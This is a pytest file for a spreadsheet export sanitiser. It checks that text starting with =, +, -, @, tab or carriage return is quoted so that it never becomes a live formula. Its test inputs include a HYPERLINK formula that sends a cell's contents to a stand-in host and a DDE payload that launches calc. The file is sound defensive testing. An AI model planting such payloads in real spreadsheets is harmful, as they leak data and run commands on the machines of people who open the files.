"""Exports cannot carry formulas: a text that starts like one is written with a leading
single quote (OWASP); numbers and dates stay typed values."""

import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from agency.xlsx import append_row, safe_cell_value, write_cell


def saved_and_read_back(workbook: Workbook) -> list[tuple]:
    out = BytesIO()
    workbook.save(out)
    sheet = load_workbook(BytesIO(out.getvalue())).active
    return [tuple((cell.value, cell.data_type) for cell in row) for row in sheet.iter_rows()]


@pytest.mark.parametrize(("text", "written"), [
    ("=1+2", "'=1+2"),
    ("+86 138 0000 0000", "'+86 138 0000 0000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
])
def test_each_formula_trigger_is_quoted(text, written):
    assert safe_cell_value(text) == written


def test_other_values_are_written_as_they_are():
    assert safe_cell_value("张三") == "张三"
    assert safe_cell_value("a=b") == "a=b"
    assert safe_cell_value("'=already quoted") == "'=already quoted"
    assert safe_cell_value("") == ""
    assert safe_cell_value(None) is None
    assert safe_cell_value(Decimal("-5.00")) == Decimal("-5.00")
    assert safe_cell_value(-3) == -3
    assert safe_cell_value(True) is True


def test_a_saved_workbook_reads_back_text_not_formulas_and_numbers_as_numbers():
    workbook = Workbook()
    sheet = workbook.active
    append_row(sheet, ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "张三",
                       Decimal("-5.00"), -3, 2.5, datetime.date(2026, 12, 2), None])
    append_row(sheet, ["+1", "-1", "@A1", "\tx", "\rx", "-", "="])
    write_cell(sheet, row=3, column=1, value="=1+1").number_format = "@"
    write_cell(sheet, row=3, column=2, value=Decimal("-5.00"))

    rows = saved_and_read_back(workbook)

    assert rows[0] == (
        ('\'=HYPERLINK("http://evil.example/?"&A2,"点击")', "s"),
        ("张三", "s"),
        (-5, "n"),
        (-3, "n"),
        (2.5, "n"),
        (datetime.datetime(2026, 12, 2, 0, 0), "d"),  # noqa: DTZ001 - read back naive
        (None, "n"),
    )
    assert rows[1] == (
        ("'+1", "s"), ("'-1", "s"), ("'@A1", "s"), ("'\tx", "s"),
        ("'\nx", "s"),  # XML reads a carriage return back as a line feed; the quote stays
        ("'-", "s"), ("'=", "s"),
    )
    assert rows[2][:2] == (("'=1+1", "s"), (-5, "n"))


def test_the_write_only_sheet_of_a_large_export_is_guarded_too():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    append_row(sheet, ["=cmd|' /C calc'!A0", Decimal("-5.00")])

    assert saved_and_read_back(workbook) == [(("'=cmd|' /C calc'!A0", "s"), (-5, "n"))]
